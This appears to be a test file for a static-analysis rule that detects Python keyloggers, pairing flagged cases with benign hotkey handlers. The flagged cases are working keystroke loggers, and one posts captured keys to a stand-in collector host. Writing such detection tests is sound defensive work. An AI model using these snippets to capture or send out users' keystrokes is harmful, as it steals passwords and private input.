import logging

import keyboard
import requests
from pynput import keyboard as kb
from pynput.keyboard import Key, Listener

LOG = "keys.txt"


def on_press(key):
    with open(LOG, "a") as f:
        f.write(str(key))


# ruleid: python-keylogger-key-listener
with Listener(on_press=on_press) as listener:
    listener.join()

logging.basicConfig(filename="keylog.txt", level=logging.DEBUG, format="%(asctime)s: %(message)s")


def log_key(key):
    logging.info(str(key))


def start():
    # ruleid: python-keylogger-key-listener
    listener = kb.Listener(on_press=log_key)
    listener.start()


buffer = []


def capture(event):
    buffer.append(event.name)
    if len(buffer) > 50:
        requests.post("https://collector.example.net/k", data={"k": "".join(buffer)})
        buffer.clear()


# ruleid: python-keylogger-key-listener
keyboard.on_press(capture)
keyboard.wait()


def stop_on_escape(key):
    # A hotkey handler: it only reacts to Esc and records nothing.
    if key == Key.esc:
        return False


# ok: python-keylogger-key-listener
with Listener(on_press=stop_on_escape) as hotkeys:
    hotkeys.join()


def toggle_pause(event):
    global paused
    paused = not paused


# ok: python-keylogger-key-listener
keyboard.on_press(toggle_pause)


def on_key(event):
    # tkinter handler: only sees keys typed into this window.
    logging.debug("key %s", event.keysym)


# ok: python-keylogger-key-listener
root.bind("<Key>", on_key)


def hotkey(key):
    if key == Key.f9:
        listener_ref.stop()
        print("stopped")


# ok: python-keylogger-key-listener
Listener(on_press=hotkey).start()
